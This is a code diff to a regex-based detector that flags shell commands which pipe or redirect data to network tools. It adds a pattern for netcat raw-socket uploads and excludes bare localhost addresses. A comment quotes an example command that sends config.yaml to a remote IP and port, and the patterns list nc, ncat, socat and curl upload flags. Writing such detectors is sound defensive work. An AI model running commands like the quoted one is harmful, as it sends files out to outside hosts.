@@ -164,7 +164,9 @@ _UPLOAD = re.compile(
     r"(?:\||\bpipe\w*\b[^\n|]{0,80}?\b(?:into|to))\s*[`'\"]?(?:curl\b[^\n|]*?(?:@-|-T\s*-(?=\s|$)|"
     r"--uploa"
     r"d-file\s+-(?=\s|$))|(?:nc|ncat|netcat|"
-    r"socat|telnet)\s)"
+    r"socat|telnet)\s)|"
+    # a raw socket fed a file: "nc 203.0.113.15 4444 < config.yaml"
+    r"\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*[\w.-]+\s+\d{1,5}\s*<\s*[\w~./$-]"
 )
 _DNS_NAME = re.compile(r"\$\([^)\n]{1,60}\)(?:[\w.-]|\$\([^)\n]{1,60}\))*\.[a-z0-9-]+\.[a-z]{2,}\b")
 _FETCHING = re.compile(r"\s*(?:curl|wget|iwr|irm)\b")  # ``$(curl …)`` fetches, it sends nothing
@@ -641,6 +643,7 @@ def _egress(s: str, cl: Clauses) -> Hit | None:
             if (
                 host
                 and not _LOCAL.match(host.group(), host.group().find("//") + 2)
+                and not _LOCAL.match(host.group())  # a bare 127.0.0.1
                 and _affirmed(s, up, cl.around(up.start(), up.end())[0], cl)
             ):
                 return hit(
